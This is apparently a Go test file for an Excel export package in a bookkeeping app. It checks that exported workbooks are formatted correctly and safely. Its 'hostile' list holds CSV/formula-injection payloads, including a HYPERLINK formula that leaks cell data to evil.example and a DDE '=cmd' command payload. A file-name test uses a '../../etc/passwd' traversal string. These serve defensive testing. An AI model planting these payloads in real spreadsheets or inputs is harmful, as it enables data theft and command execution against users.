package excel

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"math/rand/v2"
	"strconv"
	"strings"
	"testing"
	"time"
	"unicode/utf16"
	"unicode/utf8"

	"github.com/xuri/excelize/v2"

	"github.com/munshi/munshi/internal/domain"
)

var ledgerColumns = []Column{
	{Header: "Customer", Kind: Text},
	{Header: "Bills", Kind: Integer, Sum: true},
	{Header: "Outstanding", Kind: Money, Sum: true},
	{Header: "Billed on", Kind: Date},
}

func ledgerRow(name string, bills int64, due domain.Paise, on time.Time) Row {
	return Row{Str(name), Int(bills), Amount(due), Time(on)}
}

func TestHeaderIsBoldAndFrozen(t *testing.T) {
	f := write(t, oneSheet(ledgerColumns, ledgerRow("Sharma Traders", 2, 120000, madeAt)))
	for i, c := range ledgerColumns {
		ref := cell(i+1, 1)
		if got := f.value(t, "Data", ref); got != c.Header {
			t.Errorf("%s = %q, want %q", ref, got, c.Header)
		}
		if st := f.style(t, "Data", ref); st.Font == nil || !st.Font.Bold {
			t.Errorf("%s header is not bold", ref)
		}
	}
	panes, err := f.GetPanes("Data")
	if err != nil {
		t.Fatal(err)
	}
	if !panes.Freeze || panes.YSplit != 1 || panes.XSplit != 0 || panes.TopLeftCell != "A2" {
		t.Errorf("panes = %+v, want the first row frozen", panes)
	}
	if st := f.style(t, "Data", "A2"); st.Font != nil && st.Font.Bold {
		t.Error("a data cell is bold")
	}
	if h, err := f.GetRowHeight("Data", 1); err != nil || h != 20 {
		t.Errorf("header height = %v, %v; want 20", h, err)
	}
	if f.GetActiveSheetIndex() != 0 {
		t.Errorf("active sheet = %d, want the first data sheet", f.GetActiveSheetIndex())
	}
}

func TestLongHeaderWraps(t *testing.T) {
	long := strings.Repeat("Outstanding amount ", 8) // 152 characters, in a column capped at 60
	f := write(t, oneSheet([]Column{{Header: long, Kind: Money}}, Row{Amount(100)}))
	if st := f.style(t, "Data", "A1"); st.Alignment == nil || !st.Alignment.WrapText {
		t.Error("the header does not wrap")
	}
	if h, err := f.GetRowHeight("Data", 1); err != nil || h != 50 {
		t.Errorf("header height = %v, %v; want 50 (three lines)", h, err)
	}
	if w, _ := f.GetColWidth("Data", "A"); w != maxWidth {
		t.Errorf("width = %v, want the cap %d", w, maxWidth)
	}
}

func TestAutoFilterCoversHeaderAndData(t *testing.T) {
	rows := []Row{ledgerRow("A", 1, 100, madeAt), ledgerRow("B", 1, 200, madeAt), ledgerRow("C", 1, 300, madeAt)}
	f := write(t, oneSheet(ledgerColumns, rows...))
	// The totals row (5) stays out of the filter, so sorting never moves it.
	if got := f.autoFilter(t, "Data"); got != "$A$1:$D$4" && got != "A1:D4" {
		t.Errorf("auto filter = %q, want A1:D4", got)
	}
	found := false
	for _, dn := range f.GetDefinedName() {
		if dn.Name == "_xlnm._FilterDatabase" {
			found = true
			if !strings.Contains(dn.RefersTo, "'Data'!$A$1:$D$4") {
				t.Errorf("filter database refers to %q", dn.RefersTo)
			}
		}
	}
	if !found {
		t.Error("no _xlnm._FilterDatabase defined name")
	}
}

func TestColumnWidthsFitHeaderAndValues(t *testing.T) {
	cols := []Column{
		{Header: "Customer", Kind: Text},
		{Header: "Note", Kind: Text},
		{Header: "", Kind: Text},
		{Header: "Outstanding", Kind: Money},
		{Header: "Fixed", Kind: Text, Width: 33},
	}
	long := "Shree Ganesh Kirana and General Stores, Main Bazaar"
	rows := []Row{
		{Str("A"), Str(strings.Repeat("very long note ", 40)), Str("C1"), Amount(123456789012), Str("x")},
		{Str(long), Str(""), Str("C2"), Amount(5), Str("y")},
	}
	for range SampleRows + 50 { // rows past the sample do not change widths
		rows = append(rows, Row{Str("B"), Str("n"), Str("C3"), Amount(1)})
	}
	rows = append(rows, Row{Str(strings.Repeat("W", 200))})
	f := write(t, oneSheet(cols, rows...))
	width := func(col string) float64 {
		w, err := f.GetColWidth("Data", col)
		if err != nil {
			t.Fatal(err)
		}
		return w
	}
	if got, want := width("A"), float64(len(long)+2); got != want {
		t.Errorf("Customer width = %v, want %v (the longest sampled name + 2)", got, want)
	}
	if got := width("B"); got != maxWidth {
		t.Errorf("Note width = %v, want the cap %d", got, maxWidth)
	}
	if got := width("C"); got != minWidth {
		t.Errorf("Id width = %v, want the minimum %d", got, minWidth)
	}
	if got, want := width("D"), float64(len("₹12,34,56,789.12")+2); got < want {
		t.Errorf("Outstanding width = %v, want at least %v", got, want)
	}
	if got := width("E"); got != 33 {
		t.Errorf("fixed width = %v, want 33", got)
	}
}

func TestDatesAreExcelDates(t *testing.T) {
	// 20:00 UTC on 30 Nov is 01:30 on 1 Dec in Kolkata.
	at := time.Date(2026, 11, 30, 20, 0, 0, 0, time.UTC)
	cols := []Column{{Header: "Date", Kind: Date}, {Header: "At", Kind: DateTime}, {Header: "Old", Kind: Date}}
	f := write(t, oneSheet(cols, Row{Time(at), Time(at), Time(time.Date(1800, 1, 1, 0, 0, 0, 0, time.UTC))}, Row{Time(time.Time{})}))

	date := f.number(t, "Data", "A2")
	got, err := excelize.ExcelDateToTime(date, false)
	if err != nil {
		t.Fatal(err)
	}
	if want := time.Date(2026, 12, 1, 0, 0, 0, 0, time.UTC); !got.Equal(want) {
		t.Errorf("A2 is %v, want 1 Dec 2026 (the Kolkata date)", got)
	}
	if code := f.numFmt(t, "Data", "A2"); code != dateFormat {
		t.Errorf("A2 format = %q, want %q", code, dateFormat)
	}
	if got := f.value(t, "Data", "A2"); got != "01-Dec-2026" {
		t.Errorf("A2 reads %q", got)
	}

	dt := f.number(t, "Data", "B2")
	got, err = excelize.ExcelDateToTime(dt, false)
	if err != nil {
		t.Fatal(err)
	}
	if want := time.Date(2026, 12, 1, 1, 30, 0, 0, time.UTC); got.Sub(want).Abs() > time.Second {
		t.Errorf("B2 is %v, want 01:30 on 1 Dec 2026", got)
	}
	if code := f.numFmt(t, "Data", "B2"); code != dateTimeFormat {
		t.Errorf("B2 format = %q, want %q", code, dateTimeFormat)
	}
	// A date Excel cannot show is written as text rather than lost.
	if got := f.value(t, "Data", "C2"); got != "1800-01-01" {
		t.Errorf("C2 = %q, want the ISO date as text", got)
	}
	if got := f.raw(t, "Data", "A3"); got != "" {
		t.Errorf("a zero time wrote %q, want an empty cell", got)
	}
}

func TestDatesFollowTheWorkbookLocation(t *testing.T) {
	at := time.Date(2026, 11, 30, 20, 0, 0, 0, time.UTC)
	wb := oneSheet([]Column{{Header: "Date", Kind: Date}}, Row{Time(at)})
	wb.Location = time.UTC
	f := write(t, wb)
	if got := f.value(t, "Data", "A2"); got != "30-Nov-2026" {
		t.Errorf("A2 reads %q in UTC, want 30-Nov-2026", got)
	}
}

// TestTotalsAreFormulasCarryingTheirSums writes random amounts, then reads
// the totals row: each summed cell must be a SUM formula over the data and
// also hold the total, equal to the paisa to the sum worked out here.
func TestTotalsAreFormulasCarryingTheirSums(t *testing.T) {
	r := rand.New(rand.NewPCG(1, 2))
	var rows []Row
	var bills int64
	var due domain.Paise
	for i := range 1000 {
		b, p := int64(r.IntN(20)), domain.Paise(r.Int64N(50_000_000)-10_000_000)
		bills += b
		due += p
		rows = append(rows, ledgerRow("Customer "+strconv.Itoa(i), b, p, madeAt))
	}
	f := write(t, oneSheet(ledgerColumns, rows...))
	const totals = 1002
	if got := f.value(t, "Data", "A1002"); got != "Total" {
		t.Errorf("A1002 = %q, want Total", got)
	}
	if got := f.formula(t, "Data", "B1002"); got != "SUM(B2:B1001)" {
		t.Errorf("B1002 formula = %q", got)
	}
	if got := f.formula(t, "Data", "C1002"); got != "SUM(C2:C1001)" {
		t.Errorf("C1002 formula = %q", got)
	}
	if got := f.raw(t, "Data", cell(2, totals)); got != strconv.FormatInt(bills, 10) {
		t.Errorf("B1002 holds %q, want %d", got, bills)
	}
	cached, err := domain.ParseRupees(f.raw(t, "Data", cell(3, totals)))
	if err != nil {
		t.Fatalf("C1002 holds %q: %v", f.raw(t, "Data", cell(3, totals)), err)
	}
	if cached != due {
		t.Errorf("C1002 holds %v, want %v (to the paisa)", cached, due)
	}
	if st := f.style(t, "Data", "C1002"); st.Font == nil || !st.Font.Bold {
		t.Error("the total is not bold")
	}
	shownTotal, err := shown(f.numFmt(t, "Data", "C1002"), f.number(t, "Data", "C1002"))
	if err != nil || shownTotal != rupeeText(due) {
		t.Errorf("C1002 shows %q (%v), want %q", shownTotal, err, rupeeText(due))
	}
	if got := f.raw(t, "Data", "D1002"); got != "" {
		t.Errorf("the unsummed date column has %q in the totals row", got)
	}
	// Excel's own calculation (excelize's engine here) agrees with the
	// cached value.
	calc, err := f.CalcCellValue("Data", "C1002", excelize.Options{RawCellValue: true})
	if err != nil {
		t.Fatal(err)
	}
	if got, err := strconv.ParseFloat(calc, 64); err != nil || domain.Paise(int64(got*100+copysign(0.5, got))) != due {
		t.Errorf("recalculated total = %q, want %v", calc, due)
	}
}

func TestEmptySheetHasHeaderAndAboutSaysNoRows(t *testing.T) {
	for name, rows := range map[string]Rows{"nil rows": nil, "no rows": Slice[Row](nil)} {
		t.Run(name, func(t *testing.T) {
			f := write(t, Workbook{Sheets: []Sheet{{Name: "Dues", Columns: ledgerColumns, Rows: rows}}})
			if got := f.GetSheetList(); len(got) != 2 || got[0] != "Dues" || got[1] != "About" {
				t.Fatalf("sheets = %q", got)
			}
			all, err := f.GetRows("Dues")
			if err != nil {
				t.Fatal(err)
			}
			if len(all) != 1 || len(all[0]) != len(ledgerColumns) || all[0][0] != "Customer" {
				t.Errorf("rows = %q, want the header alone", all)
			}
			if got := f.autoFilter(t, "Dues"); got != "$A$1:$D$1" && got != "A1:D1" {
				t.Errorf("auto filter = %q", got)
			}
			if !slicesContain(f.aboutColumnB(t), "Dues: no rows") {
				t.Errorf("About says %q, want %q", f.aboutColumnB(t), "Dues: no rows")
			}
		})
	}
}

func slicesContain(list []string, s string) bool {
	for _, x := range list {
		if x == s {
			return true
		}
	}
	return false
}

// hostile are names that would run as formulas if pasted into a cell, or
// carry characters a cell must not hold.
var hostile = []struct{ in, stored string }{
	{"=1+1", "=1+1"},
	{"+91 98100 00001", "+91 98100 00001"},
	{"-2+3", "-2+3"},
	{"@SUM(A1:A9)", "@SUM(A1:A9)"},
	{`=HYPERLINK("http://evil.example/?"&A1,"Click")`, `=HYPERLINK("http://evil.example/?"&A1,"Click")`},
	{`=cmd|' /C calc'!A0`, `=cmd|' /C calc'!A0`},
	{"\t=1+1", " =1+1"},
	{"\r=1+1", " =1+1"},
	{"＝1+1", "＝1+1"},
	{"  =SUM(1)", "  =SUM(1)"},
}

func TestFormulaLikeTextStaysText(t *testing.T) {
	var rows []Row
	for _, h := range hostile {
		rows = append(rows, Row{Str(h.in)})
	}
	f := write(t, oneSheet([]Column{{Header: "Customer", Kind: Text}}, rows...))
	for i, h := range hostile {
		ref := cell(1, i+2)
		if got := f.formula(t, "Data", ref); got != "" {
			t.Errorf("%q became the formula %q", h.in, got)
		}
		if got := f.value(t, "Data", ref); got != h.stored {
			t.Errorf("%q stored as %q, want %q", h.in, got, h.stored)
		}
		typ, err := f.GetCellType("Data", ref)
		if err != nil || typ != excelize.CellTypeInlineString {
			t.Errorf("%q has cell type %v, want inline text", h.in, typ)
		}
		if !f.quotePrefixed(t, "Data", ref) {
			t.Errorf("%q is not quote-prefixed", h.in)
		}
		if code := f.numFmt(t, "Data", ref); code != "@" {
			t.Errorf("%q has format %q, want text (@)", h.in, code)
		}
	}
	// Plain names are text too, without the prefix.
	f = write(t, oneSheet([]Column{{Header: "Customer", Kind: Text}}, Row{Str("Sharma Traders")}))
	if f.quotePrefixed(t, "Data", "A2") {
		t.Error("a plain name is quote-prefixed")
	}
}

func TestUnicodeNamesSurvive(t *testing.T) {
	names := []string{
		"राजेश ट्रेडर्स",     // Devanagari with matras and a conjunct
		"श्री गणेश किराना 🙏", // with an emoji
		"👨‍👩‍👧 Family Mart",  // a ZWJ emoji sequence
		"🇮🇳 Bharat Stores",   // a flag (regional indicators)
		"மதுரை ஏஜென்சீஸ்",    // Tamil
		"Café Nöel ÷ ½",      // Latin-1
		"中文商店", "متجر",       // CJK, Arabic
		"e\u0301 combining",         // a combining accent
		"   spaced   ",              // leading and trailing spaces
		"a\u200dzwj and zwnj\u200c", // joiners are kept
		"_x0041_ looks escaped",     // OOXML's escape syntax, as literal text
		"<b>&amp;</b> \"quoted\"",   // XML-special characters
	}
	var rows []Row
	for _, n := range names {
		rows = append(rows, Row{Str(n)})
	}
	wb := oneSheet([]Column{{Header: "ग्राहक 🧾", Kind: Text}}, rows...)
	wb.Sheets[0].Name = "बिक्री 📈"
	wb.About.MadeFor = "विक्रम सिंह"
	f := write(t, wb)
	if got := f.GetSheetName(0); got != "बिक्री 📈" {
		t.Errorf("sheet name = %q", got)
	}
	if got := f.value(t, "बिक्री 📈", "A1"); got != "ग्राहक 🧾" {
		t.Errorf("header = %q", got)
	}
	for i, n := range names {
		if got := f.value(t, "बिक्री 📈", cell(1, i+2)); got != n {
			t.Errorf("row %d = %q, want %q", i+2, got, n)
		}
	}
	if ref, ok := f.aboutValue(t, LabelMadeFor); !ok || f.value(t, "About", ref) != "विक्रम सिंह" {
		t.Errorf("About's made-for is wrong")
	}
}

func TestLongTextIsCutToExcelLimit(t *testing.T) {
	ascii := strings.Repeat("a", 40000)
	emoji := strings.Repeat("🙏", 20000) // two UTF-16 units each
	hindi := strings.Repeat("क्", 30000)
	f := write(t, oneSheet([]Column{{Header: "Note", Kind: Text}}, Row{Str(ascii)}, Row{Str(emoji)}, Row{Str(hindi)}))
	for i, in := range []string{ascii, emoji, hindi} {
		got := f.value(t, "Data", cell(1, i+2))
		units := len(utf16.Encode([]rune(got)))
		if units > MaxCellChars || units < MaxCellChars-1 {
			t.Errorf("row %d: %d UTF-16 units, want the limit %d", i+2, units, MaxCellChars)
		}
		if !utf8.ValidString(got) || !strings.HasPrefix(in, got) {
			t.Errorf("row %d is not a clean prefix of the input", i+2)
		}
	}
}

func TestControlCharactersAreDropped(t *testing.T) {
	in := "Sharma\x00 Tra\x07ders\x1b[31m\u202eevil\u202c\x7f\u0085 & Sons\nLtd\ufffe\xff"
	f := write(t, oneSheet([]Column{{Header: "Customer", Kind: Text}}, Row{Str(in)}))
	want := "Sharma Traders[31mevil & Sons Ltd\ufffd"
	if got := f.value(t, "Data", "A2"); got != want {
		t.Errorf("stored %q, want %q", got, want)
	}
}

func TestQuantityShowsItsUnit(t *testing.T) {
	f := write(t, oneSheet([]Column{{Header: "Qty", Kind: Quantity}},
		Row{Qty(1, "bottle")}, Row{Qty(2400, "bottle")}, Row{Qty(3, "box")}, Row{Qty(5, `bag"; [Red]0`)}, Row{Qty(7, "")}))
	want := []string{"1 bottle", "2,400 bottles", "3 boxes", "5 bag Red0s", "7"}
	for i, w := range want {
		ref := cell(1, i+2)
		got, err := shown(f.numFmt(t, "Data", ref), f.number(t, "Data", ref))
		if err != nil || got != w {
			t.Errorf("%s shows %q (%v), want %q", ref, got, err, w)
		}
	}
}

func TestSheetNamesAreMadeValid(t *testing.T) {
	cols := []Column{{Header: "X", Kind: Text}}
	wb := Workbook{Sheets: []Sheet{
		{Name: "Sales: Nov/Dec [draft]?*", Columns: cols},
		{Name: "sales: nov/dec [draft]?*", Columns: cols},
		{Name: strings.Repeat("Outstanding ", 5), Columns: cols},
		{Name: "Sharma's dues", Columns: cols},
		{Name: "about", Columns: cols},
		{Name: "", Columns: cols},
		{Name: "History", Columns: cols},
	}}
	f := write(t, wb)
	want := []string{"Sales- Nov-Dec -draft---", "sales- nov-dec -draft--- (2)", "Outstanding Outstanding Outstan",
		"Sharma’s dues", "about", "Sheet 6", "Sheet 7", "About (2)"}
	got := f.GetSheetList()
	if strings.Join(got, "|") != strings.Join(want, "|") {
		t.Errorf("sheets = %q\nwant     %q", got, want)
	}
	for _, name := range got {
		if len(utf16.Encode([]rune(name))) > maxSheetName {
			t.Errorf("sheet %q is longer than %d", name, maxSheetName)
		}
	}
}

func TestAboutSheet(t *testing.T) {
	from := time.Date(2026, 10, 31, 18, 30, 0, 0, time.UTC) // 1 Nov, midnight in Kolkata
	to := time.Date(2026, 11, 30, 18, 30, 0, 0, time.UTC)   // 1 Dec, midnight: the last day is 30 Nov
	wb := oneSheet(ledgerColumns, ledgerRow("A", 1, 100, madeAt), ledgerRow("B", 1, 100, madeAt))
	wb.Sheets = append(wb.Sheets, Sheet{Name: "Empty", Columns: ledgerColumns})
	wb.About = About{
		Title:       "Sales for November",
		Description: "Every order line.",
		Period:      Period{From: from, To: to},
		MadeAt:      madeAt,
		MadeFor:     "Vikram Singh (owner)",
		Notes:       []string{"Amounts are before GST.", "=not a formula\nsecond line"},
	}
	f := write(t, wb)
	if got := f.GetSheetList(); strings.Join(got, "|") != "Data|Empty|About" {
		t.Fatalf("sheets = %q", got)
	}
	if got := f.value(t, "About", "A1"); got != "Sales for November" {
		t.Errorf("title = %q", got)
	}
	dateOf := func(label string) time.Time {
		ref, ok := f.aboutValue(t, label)
		if !ok {
			t.Fatalf("About has no %q", label)
		}
		d, err := excelize.ExcelDateToTime(f.number(t, "About", ref), false)
		if err != nil {
			t.Fatal(err)
		}
		return d
	}
	if got := dateOf(LabelFrom); !got.Equal(time.Date(2026, 11, 1, 0, 0, 0, 0, time.UTC)) {
		t.Errorf("period from = %v", got)
	}
	if got := dateOf(LabelTo); !got.Equal(time.Date(2026, 11, 30, 0, 0, 0, 0, time.UTC)) {
		t.Errorf("period to = %v, want 30 Nov (the day before the exclusive end)", got)
	}
	if got := dateOf(LabelMadeAt + " (Asia/Kolkata)"); got.Sub(time.Date(2026, 11, 30, 18, 45, 0, 0, time.UTC)).Abs() > time.Second {
		t.Errorf("made at = %v, want 18:45 on 30 Nov (Kolkata)", got)
	}
	texts := map[string]string{LabelWhat: "Every order line.", LabelMadeBy: "Munshi", LabelMadeFor: "Vikram Singh (owner)",
		LabelSheets: "Data: 2 rows", LabelNotes: "Amounts are before GST."}
	for label, want := range texts {
		ref, ok := f.aboutValue(t, label)
		if !ok || f.value(t, "About", ref) != want {
			t.Errorf("About %q = %q, want %q", label, f.value(t, "About", ref), want)
		}
	}
	b := f.aboutColumnB(t)
	if !slicesContain(b, "Empty: no rows") {
		t.Errorf("About does not say the empty sheet has no rows: %q", b)
	}
	if !slicesContain(b, "=not a formula\nsecond line") {
		t.Errorf("a multi-line note lost its line break: %q", b)
	}
	props, err := f.GetDocProps()
	if err != nil {
		t.Fatal(err)
	}
	if props.Title != "Sales for November" || props.Creator != "Munshi" {
		t.Errorf("document properties = %+v", props)
	}
}

func TestAboutWithoutPeriodIsAsOfWhenMade(t *testing.T) {
	wb := oneSheet(ledgerColumns)
	wb.About = About{MadeAt: madeAt, MadeBy: "Munshi for Vikram"}
	wb.Location = time.UTC
	f := write(t, wb)
	ref, ok := f.aboutValue(t, LabelAsOf)
	if !ok {
		t.Fatal("no As of line")
	}
	if got := f.value(t, "About", ref); got != "30-Nov-2026 13:15" {
		t.Errorf("as of = %q, want 30-Nov-2026 13:15 in UTC", got)
	}
	if _, ok := f.aboutValue(t, LabelMadeAt+" (UTC)"); !ok {
		t.Error("made-at label does not name the time zone")
	}
	if ref, _ := f.aboutValue(t, LabelMadeBy); f.value(t, "About", ref) != "Munshi for Vikram" {
		t.Error("made by not shown")
	}
	if got := f.value(t, "About", "A1"); got != defaultTitle {
		t.Errorf("untitled workbook's title = %q", got)
	}
}

func TestRowCount(t *testing.T) {
	for n, want := range map[int]string{0: "no rows", 1: "1 row", 2: "2 rows", 123456: "1,23,456 rows"} {
		if got := RowCount(n); got != want {
			t.Errorf("RowCount(%d) = %q, want %q", n, got, want)
		}
	}
}

// endless yields rows until its consumer stops, cancelling ctx after
// cancelAt rows.
func endless(cancelAt int, cancel context.CancelFunc) Rows {
	return func(yield func(Row, error) bool) {
		for i := 0; ; i++ {
			if i == cancelAt {
				cancel()
			}
			if !yield(ledgerRow("C", 1, 100, madeAt), nil) {
				return
			}
		}
	}
}

func TestWriteStopsWhenContextEnds(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	var buf bytes.Buffer
	err := Write(ctx, &buf, Workbook{Sheets: []Sheet{{Name: "Data", Columns: ledgerColumns, Rows: endless(5000, cancel)}}})
	if !errors.Is(err, context.Canceled) || err != ctx.Err() {
		t.Fatalf("Write = %v, want ctx.Err()", err)
	}

	done, stop := context.WithCancel(context.Background())
	stop()
	if err := Write(done, &buf, oneSheet(ledgerColumns)); err != context.Canceled {
		t.Errorf("Write with an ended context = %v", err)
	}
}

// failingWriter fails once it has taken limit bytes.
type failingWriter struct{ limit int }

func (w *failingWriter) Write(p []byte) (int, error) {
	if w.limit -= len(p); w.limit < 0 {
		return 0, errors.New("disk full")
	}
	return len(p), nil
}

func TestWriteErrors(t *testing.T) {
	boom := errors.New("books unavailable")
	cases := map[string]struct {
		wb   Workbook
		want string
	}{
		"no sheets":        {Workbook{}, "at least one sheet"},
		"no columns":       {Workbook{Sheets: []Sheet{{Name: "X"}}}, "has 0 columns"},
		"sum of text":      {oneSheet([]Column{{Header: "Name", Kind: Text, Sum: true}}), "cannot be summed"},
		"sum of dates":     {oneSheet([]Column{{Header: "On", Kind: Date, Sum: true}}), "cannot be summed"},
		"unknown kind":     {oneSheet([]Column{{Header: "X", Kind: Kind(99)}}), "unknown kind"},
		"bad width":        {oneSheet([]Column{{Header: "X", Width: 300}}), "width"},
		"text in money":    {oneSheet(ledgerColumns, Row{Str("A"), Int(1), Str("₹5")}), `row 2 column "Outstanding": text in a money column`},
		"number in text":   {oneSheet(ledgerColumns, Row{Int(5)}), "a number in a text column"},
		"date in integer":  {oneSheet(ledgerColumns, Row{Str("A"), Time(madeAt)}), "a date in an integer column"},
		"too many values":  {oneSheet(ledgerColumns, Row{Str("A"), Int(1), Amount(1), Time(madeAt), Str("extra")}), "5 values for 4 columns"},
		"too large amount": {oneSheet(ledgerColumns, Row{Str("A"), Int(1), Amount(MaxNumber + 1)}), "15 digits"},
		"too large total": {oneSheet(ledgerColumns, Row{Str("A"), Int(1), Amount(MaxNumber)}, Row{Str("B"), Int(1), Amount(MaxNumber)}),
			"the total 1999999999999998 is more than Excel holds"},
		"rows fail": {Workbook{Sheets: []Sheet{{Name: "X", Columns: ledgerColumns, Rows: func(yield func(Row, error) bool) {
			if yield(ledgerRow("A", 1, 1, madeAt), nil) {
				yield(nil, boom)
			}
		}}}}, "books unavailable"},
	}
	for name, c := range cases {
		t.Run(name, func(t *testing.T) {
			err := Write(context.Background(), &bytes.Buffer{}, c.wb)
			if err == nil || !strings.Contains(err.Error(), c.want) || !strings.HasPrefix(err.Error(), "excel: ") {
				t.Errorf("Write = %v, want an excel: error containing %q", err, c.want)
			}
		})
	}
	t.Run("rows error is wrapped", func(t *testing.T) {
		err := Write(context.Background(), &bytes.Buffer{}, cases["rows fail"].wb)
		if !errors.Is(err, boom) {
			t.Errorf("Write = %v, want it to wrap the rows' error", err)
		}
	})
	t.Run("writer fails", func(t *testing.T) {
		err := Write(context.Background(), &failingWriter{limit: 100}, oneSheet(ledgerColumns, ledgerRow("A", 1, 1, madeAt)))
		if err == nil || !strings.Contains(err.Error(), "disk full") {
			t.Errorf("Write = %v, want the writer's error", err)
		}
	})
}

func TestTooManyRows(t *testing.T) {
	w := &sheetWriter{ctx: context.Background(), name: "Lines", cols: make([]column, 1), rows: MaxDataRows, begun: true}
	err := w.add(Row{Int(1)})
	if !errors.Is(err, ErrTooManyRows) {
		t.Fatalf("add past the limit = %v, want ErrTooManyRows", err)
	}
	if domain.ErrorCode(err) != domain.EINVALID || !strings.Contains(domain.ErrorMessage(err), "10,48,574") {
		t.Errorf("the person would read %q (%s)", domain.ErrorMessage(err), domain.ErrorCode(err))
	}
}

func TestShortRowsLeaveCellsEmpty(t *testing.T) {
	f := write(t, oneSheet(ledgerColumns, Row{Str("Only a name")}, Row{}, Row{Value{}, Int(3)}))
	if got := f.value(t, "Data", "A2"); got != "Only a name" {
		t.Errorf("A2 = %q", got)
	}
	for _, ref := range []string{"B2", "C2", "D2", "A3", "A4"} {
		if got := f.raw(t, "Data", ref); got != "" {
			t.Errorf("%s = %q, want empty", ref, got)
		}
	}
	if got := f.raw(t, "Data", "B5"); got != "3" {
		t.Errorf("totals row B5 = %q", got)
	}
}

// TestRowsMayReuseTheirSlice checks that Write copies what it holds: a
// producer that reuses one Row for every row (as the exports do) still
// gets every row written as it was.
func TestRowsMayReuseTheirSlice(t *testing.T) {
	const n = SampleRows + 20
	rows := func(yield func(Row, error) bool) {
		row := make(Row, 2)
		for i := range n {
			row[0], row[1] = Str(fmt.Sprintf("Customer %d", i)), Int(int64(i))
			if !yield(row, nil) {
				return
			}
		}
	}
	f := write(t, Workbook{Sheets: []Sheet{{Name: "Data", Columns: []Column{{Header: "Name"}, {Header: "N", Kind: Integer}}, Rows: rows}}})
	for i := range n {
		if got := f.value(t, "Data", cell(1, i+2)); got != fmt.Sprintf("Customer %d", i) {
			t.Fatalf("row %d = %q", i+2, got)
		}
		if got := f.raw(t, "Data", cell(2, i+2)); got != strconv.Itoa(i) {
			t.Fatalf("row %d number = %q", i+2, got)
		}
	}
}

func TestFileName(t *testing.T) {
	at := time.Date(2026, 11, 30, 20, 0, 0, 0, time.UTC) // 1 Dec in Kolkata
	for stem, want := range map[string]string{
		"outstanding":                     "outstanding-2026-12-01.xlsx",
		"Pending Orders":                  "pending-orders-2026-12-01.xlsx",
		"../../etc/passwd":                "etc-passwd-2026-12-01.xlsx",
		"बिक्री":                          "munshi-2026-12-01.xlsx",
		"sales: last_month!":              "sales-last-month-2026-12-01.xlsx",
		strings.Repeat("a", 39) + "-tail": strings.Repeat("a", 39) + "-2026-12-01.xlsx",
	} {
		if got := FileName(stem, at, nil); got != want {
			t.Errorf("FileName(%q) = %q, want %q", stem, got, want)
		}
	}
	if got := FileName("stock", at, time.UTC); got != "stock-2026-11-30.xlsx" {
		t.Errorf("FileName in UTC = %q", got)
	}
}
